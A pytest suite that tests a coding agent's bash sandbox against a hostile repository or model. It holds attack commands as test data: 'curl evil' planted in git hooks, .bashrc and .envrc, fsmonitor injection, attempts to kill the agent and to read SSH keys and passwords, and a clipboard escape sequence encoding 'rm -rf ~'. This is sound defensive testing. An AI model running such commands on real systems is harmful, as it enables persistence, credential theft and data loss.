"""The bash sandbox as a boundary, attacked as a hostile repository or model would, under both
layers (bubblewrap, and Landlock with bubblewrap kept out): the network, unix sockets, signals,
protected paths, the environment, and the way out that only the person can open."""

from __future__ import annotations

import asyncio
import errno
import json
import os
import platform
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.permissions import PermissionPolicy, resolve_without_person
from tools import BashTool, ToolContext
from tools.sandbox import PROTECTED, SandboxPolicy

REPO = Path(__file__).resolve().parents[1]
MODES = ["read-only", "workspace-write"]


def make_ctx(tmp_path: Path, mode: str = "workspace-write", network: bool = False) -> ToolContext:
    workspace = tmp_path / "ws"
    workspace.mkdir(exist_ok=True)
    policy = SandboxPolicy(mode=mode, network=network)  # type: ignore[arg-type]  # mode is one of the Literal values, from the parameters
    return ToolContext(workspace=workspace, scratch_dir=tmp_path / "scratch", sandbox=policy)


async def bash(ctx: ToolContext, command: str, **extra: object) -> tuple[str, dict]:
    result = await BashTool().run({"command": command, **extra}, ctx)
    return result.output, result.metadata


class Listener:
    """A loopback TCP listener of the test's own that records whatever reaches it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            self.accepted += 1
            with conn:
                conn.settimeout(1)
                try:
                    self.received += conn.recv(4096)
                    conn.sendall(b"HTTP/1.0 200 OK\r\n\r\nanswer-from-listener")
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    try:
        yield made
    finally:
        made.close()


FAST_OPEN = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.sendto(b"GET /secret HTTP/1.0\\r\\n\\r\\n", socket.MSG_FASTOPEN, ("127.0.0.1", int(sys.argv[1])))
print("answer:", s.recv(100))
"""
LISTEN = """
import socket
s = socket.socket()
s.listen()
print("listening on", s.getsockname())
"""
UDP = """
import socket, sys
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", int(sys.argv[1])))
print("sent")
"""
UNIX = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.sendall(b"secret")
print("sent")
"""


@pytest.mark.parametrize("mode", MODES)
async def test_fast_open_listen_and_udp_reach_nothing_with_the_network_off(
    tmp_path: Path, sandbox_layer: str, listener: Listener, mode: str
) -> None:
    ctx = make_ctx(tmp_path, mode)
    for name, text in (("fast_open", FAST_OPEN), ("listen", LISTEN), ("udp", UDP)):
        (tmp_path / f"{name}.py").write_text(text)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.3)
    try:
        py = sys.executable
        output, meta = await bash(
            ctx,
            f"{py} {tmp_path}/fast_open.py {listener.port}; {py} {tmp_path}/listen.py; "
            f"{py} {tmp_path}/udp.py {udp.getsockname()[1]}",
        )
        assert "answer:" not in output and "listening on" not in output and "sent" not in output, output
        assert output.count("Permission denied") == 3, output
        assert listener.accepted == 0 and listener.received == b""
        with pytest.raises(TimeoutError):
            udp.recvfrom(100)
        assert meta["network_blocked"] is True and meta["process_isolation"] == sandbox_layer
    finally:
        udp.close()


async def test_fast_open_works_with_the_network_on(tmp_path: Path, sandbox_layer: str, listener: Listener) -> None:
    # The same probe reaches the listener when the person turned the network on: it is the
    # sandbox, not the probe, that stops it above.
    ctx = make_ctx(tmp_path, network=True)
    (tmp_path / "fast_open.py").write_text(FAST_OPEN)
    output, meta = await bash(ctx, f"{sys.executable} {tmp_path}/fast_open.py {listener.port}")
    assert "answer-from-listener" in output, output
    assert b"GET /secret" in listener.received
    assert meta["network_blocked"] is False


@pytest.mark.parametrize("mode", MODES)
async def test_a_unix_socket_outside_the_workspace_is_unreachable(
    tmp_path: Path, sandbox_layer: str, mode: str
) -> None:
    path = tmp_path / "outside.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    server.settimeout(0.3)
    (tmp_path / "unix.py").write_text(UNIX)
    try:
        output, _ = await bash(make_ctx(tmp_path, mode), f"{sys.executable} {tmp_path}/unix.py {path}")
        assert "sent" not in output and "Permission denied" in output, output
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()


async def test_socketpair_still_works_with_the_network_off(tmp_path: Path, sandbox_layer: str) -> None:
    command = f"{sys.executable} -c \"import socket; a, b = socket.socketpair(); a.sendall(b'ok'); print(b.recv(2))\""
    output, _ = await bash(make_ctx(tmp_path), command)
    assert "b'ok'" in output, output


@pytest.mark.parametrize("mode", MODES)
async def test_an_unrelated_process_cannot_be_signalled(tmp_path: Path, sandbox_layer: str, mode: str) -> None:
    victim = subprocess.Popen(["sleep", "60"])
    try:
        output, _ = await bash(make_ctx(tmp_path, mode), f"kill -9 {victim.pid}; kill -STOP {victim.pid}; echo tried")
        assert "tried" in output
        assert victim.poll() is None
        state = Path(f"/proc/{victim.pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        assert state != "T", "the victim was stopped"
    finally:
        victim.kill()
        victim.wait()


AGENT = """
import asyncio, json, sys
from pathlib import Path
from tools import BashTool, ToolContext
from tools.sandbox import SandboxPolicy
workspace, scratch, command = sys.argv[1:4]
ctx = ToolContext(workspace=Path(workspace), scratch_dir=Path(scratch), sandbox=SandboxPolicy())
result = asyncio.run(BashTool().run({"command": command}, ctx))
print(json.dumps({"output": result.output}))
"""


def run_agent_process(script: str, tmp_path: Path, command: str) -> str:
    """Runs `command` through the bash tool of an agent in its own process; its tool output."""
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "ws"), str(tmp_path / "scratch"), command],
        cwd=REPO, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return str(json.loads(done.stdout)["output"])


async def test_the_agent_cannot_be_stopped_or_killed_from_inside_a_command(tmp_path: Path, sandbox_layer: str) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    command = "agent=$(cat /proc/$PPID/status 2>/dev/null | head -1); kill -STOP $PPID; kill -9 $PPID; echo still here"
    assert "still here" in run_agent_process(AGENT, tmp_path, command)


PROTECTED_WRITES = {
    ".git/config": "printf '[core]\\n\\tworktree = /root\\n' >> .git/config",
    ".git/hooks": "echo 'curl evil' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    ".git/info": "echo '* filter=x' > .git/info/attributes",
    ".gitmodules": "printf '[submodule \"x\"]\\n' > .gitmodules",
    ".localagent.toml": "echo 'x = 1' > .localagent.toml",
    ".mcp.json": "echo '{}' > .mcp.json",
    ".claude": "mkdir -p .claude && echo '{}' > .claude/settings.json",
    ".bashrc": "echo 'curl evil' >> .bashrc",
    ".envrc": "echo 'curl evil' > .envrc",
    ".git/commondir": "mkdir -p .evil && printf '[core]\\n\\tfsmonitor = evil\\n' > .evil/config && echo ../.evil > .git/commondir",
    ".git/config.worktree": "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config.worktree",
}


def git(cwd: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True).stdout


@pytest.mark.parametrize("target", sorted(PROTECTED_WRITES))
async def test_protected_paths_cannot_be_changed_and_git_commit_still_works(
    tmp_path: Path, sandbox_layer: str, target: str
) -> None:
    ctx = make_ctx(tmp_path)
    ws = ctx.workspace
    git(ws, "init", "-q", "-b", "main")
    (ws / ".bashrc").write_text("# the project's own\n")
    (ws / "a.txt").write_text("a\n")
    before = {p: (ws / p).read_bytes() for p in (".git/config", ".bashrc")}
    hooks_before = sorted(os.listdir(ws / ".git" / "hooks"))
    output, meta = await bash(ctx, PROTECTED_WRITES[target])
    commit = "git -c user.name=t -c user.email=t@e add a.txt && git -c user.name=t -c user.email=t@e commit -qm one"
    # The next command finds everything as it was (under Landlock a change holds until the command
    # that made it ends, and no longer: it is put back before anything else runs).
    committed, _ = await bash(ctx, f"{commit} && echo committed")
    assert "committed" in committed, committed
    assert git(ws, "log", "--format=%s") == "one\n"
    assert {p: (ws / p).read_bytes() for p in (".git/config", ".bashrc")} == before
    assert sorted(os.listdir(ws / ".git" / "hooks")) == hooks_before
    for created in (
        ".git/info/attributes",
        ".gitmodules",
        ".localagent.toml",
        ".mcp.json",
        ".claude",
        ".envrc",
        ".git/commondir",
        ".git/config.worktree",
    ):
        assert not (ws / created).exists(), created
    if meta["protected_restored"]:
        # What got past a mount (or every change, under Landlock) was put back, and said so.
        assert target in meta["protected_restored"]
        assert "put back protected paths" in output
    else:
        assert sandbox_layer == "bubblewrap" and "Read-only file system" in output, output


def test_every_protected_path_is_attacked_above() -> None:
    assert {p for p in PROTECTED if not p.startswith((".bash", ".z", ".profile"))} <= set(PROTECTED_WRITES)


async def test_a_protected_folder_swapped_for_a_link_is_not_followed_on_restore(
    tmp_path: Path, sandbox_layer: str
) -> None:
    ctx = make_ctx(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("mine\n")
    output, meta = await bash(ctx, f"ln -s {outside} .claude")
    assert not (ctx.workspace / ".claude").exists()
    assert (outside / "keep.txt").read_text() == "mine\n"
    assert meta["protected_restored"] == [".claude"]


async def test_hidden_folders_and_session_services_are_out_of_sight(
    tmp_path: Path, sandbox_layer: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if sandbox_layer != "bubblewrap":
        pytest.skip("Landlock cannot hide a folder from reading; the README says so")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    (home / ".netrc").write_text("machine x login y password z\n")
    data = tmp_path / "data"
    (data / "sessions").mkdir(parents=True)
    (data / "sessions" / "s.jsonl").write_text("the person's conversation\n")
    monkeypatch.setenv("HOME", str(home))
    ctx = make_ctx(tmp_path)
    ctx.sandbox = SandboxPolicy(hidden=(data,))
    ctx.scratch_dir = data / "tool-output" / "s1"
    ctx.scratch_dir.mkdir(parents=True)
    (ctx.scratch_dir / "earlier.txt").write_text("saved output\n")
    output, _ = await bash(
        ctx,
        f"cat {home}/.ssh/id_rsa {home}/.netrc {data}/sessions/s.jsonl; "
        f"cat {ctx.scratch_dir}/earlier.txt; ls /run/user/$(id -u) 2>/dev/null | wc -l",
    )
    assert "PRIVATE KEY" not in output and "password" not in output and "conversation" not in output
    assert "saved output" in output


async def test_outside_sandbox_needs_the_person_and_then_runs_unconfined(tmp_path: Path, sandbox_layer: str) -> None:
    args = {"command": "git config core.autocrlf false", "outside_sandbox": True, "reason": "set a git option"}
    for mode in ("ask", "auto-edit", "full-auto"):
        decision = PermissionPolicy(mode, bash_sandboxed=True).decide(
            "bash", False, args["command"], workspace=tmp_path, arguments=args
        )
        assert decision.action == "ask" and "set a git option" in decision.reason
        assert resolve_without_person(decision).action == "deny"
    read_only = PermissionPolicy("read-only", bash_sandboxed=True)
    assert read_only.decide("bash", False, args["command"], workspace=tmp_path, arguments=args).action == "deny"
    ctx = make_ctx(tmp_path)
    git(ctx.workspace, "init", "-q")
    _, meta = await bash(ctx, "git config core.autocrlf false")
    assert "autocrlf" not in (ctx.workspace / ".git" / "config").read_text()
    _, meta = await bash(ctx, "git config core.autocrlf false", outside_sandbox=True, reason="approved")
    assert "autocrlf = false" in (ctx.workspace / ".git" / "config").read_text()
    assert meta["sandboxed"] is False and meta["protected_restored"] == []


def test_bubblewrap_is_active_where_this_machine_has_it() -> None:
    from tools import sandbox

    if os.environ.get("CI") and sys.platform == "linux":
        # .ci/run installs bubblewrap, so CI tests both layers, never Landlock alone by accident.
        assert sandbox.sandbox_layer()[0] == "bubblewrap", sandbox.sandbox_layer()


def test_the_layer_variable_chooses_landlock(monkeypatch: pytest.MonkeyPatch) -> None:
    from tools.sandbox import bubblewrap

    monkeypatch.setenv("LOCALAGENT_SANDBOX_LAYER", "landlock")
    bubblewrap.bubblewrap_status.cache_clear()
    try:
        assert bubblewrap.bubblewrap_status() == (None, "LOCALAGENT_SANDBOX_LAYER=landlock")
    finally:
        monkeypatch.delenv("LOCALAGENT_SANDBOX_LAYER")
        bubblewrap.bubblewrap_status.cache_clear()


def test_a_command_named_bwrap_in_the_workspace_is_never_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tools.sandbox import bubblewrap

    fake = tmp_path / "bwrap"
    marker = tmp_path / "ran"
    fake.write_text(f"#!/bin/sh\ntouch {marker}\n")
    fake.chmod(0o755)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f".:{os.environ['PATH']}")
    bubblewrap.bubblewrap_status.cache_clear()
    try:
        program, _ = bubblewrap.bubblewrap_status()
        assert program is None or Path(program) != fake.resolve()
        assert not marker.exists()
    finally:
        bubblewrap.bubblewrap_status.cache_clear()


FAKE_LINE = "\x1b[2K\r→ view: README.md\n  ok in 0.1 s"
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"


def test_escape_sequences_from_the_model_and_tools_reach_the_terminal_as_visible_text(la_env) -> None:
    from tests.support.scripted_model import ScriptedModelServer, ScriptedToolCall, ScriptedTurn

    turns = [
        ScriptedTurn(tool_calls=[ScriptedToolCall("bash", {"command": f"printf 'ok{CLIPBOARD!r}'"})]),
        ScriptedTurn(text=f"All done.{FAKE_LINE}{CLIPBOARD}\u202eevil"),
    ]
    with ScriptedModelServer(turns) as model:
        result = la_env.run("run", "do it", "--base-url", model.base_url, "--mode", "full-auto")
    assert result.code == 0, result.stderr
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\x07" not in stream and "\r" not in stream and "\u202e" not in stream
    assert "All done.\\x1b[2K\\r→ view: README.md" in result.stdout
    assert "\\x1b]52;c;" in result.stdout and "\\u202eevil" in result.stdout


def test_terminal_safe_keeps_newlines_and_tabs_and_shows_the_rest() -> None:
    from tools.terminal_text import one_line_safe, terminal_safe

    assert terminal_safe("a\tb\nc\x1b[31md\x9be\x00") == "a\tb\nc\\x1b[31md\\x9be\\x00"
    assert one_line_safe("a\nb\tc\rd") == "a\\nb\\tc\\rd"


@pytest.mark.parametrize(("layer", "words"), [("", "bubblewrap"), ("landlock", "Landlock ABI")])
def test_doctor_names_the_layer_in_force_and_why(la_env, layer: str, words: str) -> None:
    from tools import sandbox

    if not layer and sandbox.bubblewrap_status()[0] is None:
        pytest.skip(f"bubblewrap does not work here: {sandbox.bubblewrap_status()[1]}")
    if layer:
        la_env.env["LOCALAGENT_SANDBOX_LAYER"] = layer
    result = la_env.run("doctor")
    assert result.code == 0, result.stderr
    first = result.stdout.splitlines()[0]
    assert first.startswith(f"bash sandbox: {words}"), result.stdout
    if layer:
        assert "LOCALAGENT_SANDBOX_LAYER=landlock" in first


def test_acp_updates_carry_control_characters_as_visible_text() -> None:
    from agent.events import ToolCallFinished
    from localagent.acp import updates

    for update in (updates.message("a\x1b[2Jb"), updates.thought("t\x1b]52;c;eA==\x07")):
        text = update.content.text
        assert "\x1b" not in text and "\x07" not in text and "\\x1b" in text
    done = updates.finished(ToolCallFinished("c1", "bash", "out\x1b[31mred", False, 0.1), None)
    assert "\x1b" not in str(done.raw_output) and "\\x1b[31mred" in done.raw_output["output"]
    assert "\x1b" not in updates.title("bash", "printf '\x1b[2K'")


# -- found by attacking the first version of this sandbox ------------------------------------------


async def test_a_root_owned_command_cannot_remount_or_unmount(tmp_path: Path, sandbox_layer: str) -> None:
    if os.geteuid() != 0:
        pytest.skip("only a root-owned agent hands its commands capabilities to drop")
    ctx = make_ctx(tmp_path)
    git(ctx.workspace, "init", "-q")
    marker = f"/var/tmp/.localagent-remount-{os.getpid()}"
    output, _ = await bash(
        ctx,
        f"mount -o remount,bind,rw / && touch {marker}; umount {ctx.workspace}/.git/config; "
        "grep -c . /proc/self/status >/dev/null; grep CapEff /proc/self/status",
    )
    assert not Path(marker).exists()
    capabilities = int(output.split("CapEff:")[1].split()[0], 16)
    assert not capabilities >> 21 & 1, output  # no CAP_SYS_ADMIN: no mount, no unmount


VICTIM_STATE = "awk '/Max open files/ {print $4}' /proc/PID/limits; cut -d' ' -f19 /proc/PID/stat"


async def test_prlimit_renice_and_friends_reach_no_other_process(tmp_path: Path, sandbox_layer: str) -> None:
    victim = subprocess.Popen(["sleep", "60"])
    try:
        before = subprocess.run(
            ["sh", "-c", VICTIM_STATE.replace("PID", str(victim.pid))], capture_output=True, text=True
        ).stdout
        v = victim.pid
        await bash(
            make_ctx(tmp_path),
            f"prlimit --pid {v} --nofile=0:0 --cpu=0:0; renice -n 19 -p {v}; "
            f"ionice -c 3 -p {v}; chrt -i -p 0 {v}; echo tried",
        )
        after = subprocess.run(
            ["sh", "-c", VICTIM_STATE.replace("PID", str(victim.pid))], capture_output=True, text=True
        ).stdout
        assert victim.poll() is None and after == before
    finally:
        victim.kill()
        victim.wait()


async def test_the_agent_cannot_be_limited_from_inside_a_command(tmp_path: Path, sandbox_layer: str) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    # The agent puts its own pid in the command: under bubblewrap $PPID names a process inside.
    agent = AGENT.replace(
        "command = sys.argv[1:4]\n",
        "command = sys.argv[1:4]\ncommand = command.replace('AGENT', str(__import__('os').getpid()))\n",
    )
    command = "prlimit --pid AGENT --cpu=0:0; prlimit --pid AGENT --nofile=0:0; echo still here"
    assert "still here" in run_agent_process(agent, tmp_path, command)


async def test_a_background_job_cannot_change_a_protected_path_after_the_check(
    tmp_path: Path, sandbox_layer: str
) -> None:
    ctx = make_ctx(tmp_path)
    git(ctx.workspace, "init", "-q")
    before = (ctx.workspace / ".git" / "config").read_text()
    await bash(ctx, "(sleep 1; echo '[core] fsmonitor = evil' >> .git/config; mkdir -p .claude) >/dev/null 2>&1 &")
    await asyncio.sleep(2.5)
    assert (ctx.workspace / ".git" / "config").read_text() == before
    assert not (ctx.workspace / ".claude").exists()


async def test_a_protected_folder_too_deep_to_read_is_removed_and_the_next_command_runs(
    tmp_path: Path, sandbox_layer: str
) -> None:
    ctx = make_ctx(tmp_path)
    deep = "a/" * 1100
    output, meta = await bash(
        ctx, f"mkdir -p .claude && echo '{{}}' > .claude/settings.json && mkdir -p .claude/{deep}"
    )
    assert not (ctx.workspace / ".claude").exists(), output
    assert meta["protected_restored"] == [".claude"]
    output, _ = await bash(ctx, "echo next")
    assert "next" in output


async def test_git_cannot_be_moved_aside_for_a_gitfile(tmp_path: Path, sandbox_layer: str) -> None:
    if sandbox_layer != "bubblewrap":
        pytest.skip("Landlock cannot keep a folder from being renamed; the README says so")
    ctx = make_ctx(tmp_path)
    git(ctx.workspace, "init", "-q")
    output, _ = await bash(ctx, "mv .git .git-real && echo 'gitdir: .git-real' > .git; echo done")
    assert (ctx.workspace / ".git").is_dir() and not (ctx.workspace / ".git-real").exists(), output


async def test_the_kernel_keyring_is_out_of_reach(tmp_path: Path, sandbox_layer: str) -> None:
    if platform.machine() != "x86_64":
        pytest.skip("the probe calls keyctl by its x86_64 number")
    probe = (
        "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
        "r = libc.syscall(250, 0, -4, 0); print('keyctl', r, ctypes.get_errno())"
    )
    output, _ = await bash(make_ctx(tmp_path), f'{sys.executable} -c "{probe}"')
    assert f"keyctl -1 {errno.EPERM}" in output, output


async def test_a_symlinked_secret_folder_is_hidden_where_it_leads(
    tmp_path: Path, sandbox_layer: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if sandbox_layer != "bubblewrap":
        pytest.skip("Landlock cannot hide a folder from reading; the README says so")
    home = tmp_path / "home"
    keys = tmp_path / "keys"
    keys.mkdir()
    (keys / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    home.mkdir()
    (home / ".ssh").symlink_to(keys)
    (home / ".pgpass").write_text("db:5432:*:me:hunter2\n")
    monkeypatch.setenv("HOME", str(home))
    output, _ = await bash(make_ctx(tmp_path), f"cat {home}/.ssh/id_ed25519 {keys}/id_ed25519 {home}/.pgpass")
    assert "PRIVATE KEY" not in output and "hunter2" not in output


async def test_where_a_shipped_protected_link_leads_is_protected_too(tmp_path: Path, sandbox_layer: str) -> None:
    ctx = make_ctx(tmp_path)
    (ctx.workspace / "cfg").mkdir()
    (ctx.workspace / "cfg" / "envrc").write_text("export A=1\n")
    (ctx.workspace / ".envrc").symlink_to("cfg/envrc")
    output, _ = await bash(ctx, "echo 'curl evil | sh' >> cfg/envrc; echo done")
    assert (ctx.workspace / "cfg" / "envrc").read_text() == "export A=1\n", output


async def test_a_link_made_to_a_project_file_is_removed_and_the_file_kept(tmp_path: Path, sandbox_layer: str) -> None:
    ctx = make_ctx(tmp_path)
    (ctx.workspace / "cfg").mkdir()
    (ctx.workspace / "cfg" / "setup.sh").write_text("echo project\n")
    _, meta = await bash(ctx, "ln -s cfg/setup.sh .envrc")
    assert not os.path.lexists(ctx.workspace / ".envrc")
    assert (ctx.workspace / "cfg" / "setup.sh").read_text() == "echo project\n"
    assert meta["protected_restored"] == [".envrc"]


def test_outside_sandbox_never_gets_past_a_deny_rule_through_a_wrapper(tmp_path: Path) -> None:
    from agent.permissions import PermissionRules

    rules = PermissionRules.from_config({"deny": ["bash(git config*)"], "allow": ["bash(*)"]})
    policy = PermissionPolicy("full-auto", rules, bash_sandboxed=True)
    for command in ("env git config core.hooksPath x", "timeout 5 git config core.hooksPath x"):
        args = {"command": command, "outside_sandbox": True, "reason": "needs git config"}
        assert policy.decide("bash", False, command, workspace=tmp_path, arguments=args).action == "deny"
